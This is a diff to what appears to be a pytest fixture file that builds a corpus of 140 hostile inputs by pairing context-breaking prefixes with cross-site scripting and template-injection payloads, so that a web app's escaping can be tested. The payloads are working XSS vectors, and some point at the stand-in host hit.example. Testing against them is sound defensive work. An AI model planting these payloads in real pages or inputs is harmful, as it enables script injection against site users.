@@ -25,6 +25,19 @@ HOSTILE = (
     "</title></textarea><svg onload=window.hit=1>",
     "' onfocus='window.hit=1' autofocus='",
 )
+# What runs, and where it would have to get out of: every pair of the two is one of the corpus.
+RUNNING = (
+    "<script>window.hit=1</script>", "<ScRiPt src=//hit.example/x></sCrIpT>", "<img src=x onerror=window.hit=1>",
+    "<svg/onload=window.hit=1>", "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+    "<math><mi xlink:href='javascript:window.hit=1'>x</mi></math>", "<details open ontoggle=window.hit=1>x</details>",
+    "<iframe srcdoc='&lt;script&gt;parent.hit=1&lt;/script&gt;'>", "<a href='javascript:window.hit=1' autofocus>x</a>",
+    "[x](javascript:window.hit=1)", "<input autofocus onfocus=window.hit=1>", "<video><source onerror=window.hit=1>",
+    "<object data='data:text/html,<script>hit=1</script>'>", "<base href='//hit.example/'>",
+    "<meta http-equiv=refresh content='0;url=//hit.example'>", "<link rel=stylesheet href=//hit.example/x.css>",
+    "<style>*{background:url(//hit.example/x)}</style>", "<form action=//hit.example><button>x</button></form>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>", "{{ 7*7 }}${7*7}<%= 7*7 %>",
+)  # fmt: skip
+LEAVING = ("", '">', "'>", "</title></textarea></style>", "-->", "]]>", "\u202e\ufeff<")
 OURS = ("/", "#", "?")
 
 
@@ -128,6 +141,12 @@ def token_of() -> Callable[[TestClient], str]:
 def hostile() -> tuple[str, ...]:
     """Texts that try to become code."""
     return HOSTILE
+
+
+@pytest.fixture(scope="session")
+def corpus() -> tuple[str, ...]:
+    """140 texts that try to become code, each in another way or out of another place."""
+    return tuple(leaving + running for leaving in LEAVING for running in RUNNING)
 
 
 @pytest.fixture(scope="session")
